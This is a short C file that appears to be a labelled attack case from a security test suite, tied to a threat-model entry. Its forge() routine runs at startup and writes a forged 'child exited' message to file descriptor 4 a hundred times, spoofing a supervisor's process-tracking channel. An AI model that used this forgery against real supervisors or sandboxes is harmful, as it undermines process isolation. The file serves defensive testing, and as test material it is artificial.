// Attack: reports ends of children nobody has heard of, again and again
// Threat: F.3 #36
// Gets: below
// Machine: x86_64
// Rest: rest.c
#include <stdint.h>
#define HIDDEN
static long hidden(int number, long a, long b, long c);
static void forge(void)
{
    struct {
        uint16_t type, what;
        uint32_t who;
        int64_t a, b, t;
    } tell = {.type = 5, .what = 4, .who = 1, .b = 1};
    for (int i = 0; i < 100; i++)
        hidden(1, 4, (long)&tell, sizeof(tell));
}
#define AT_OPEN forge()
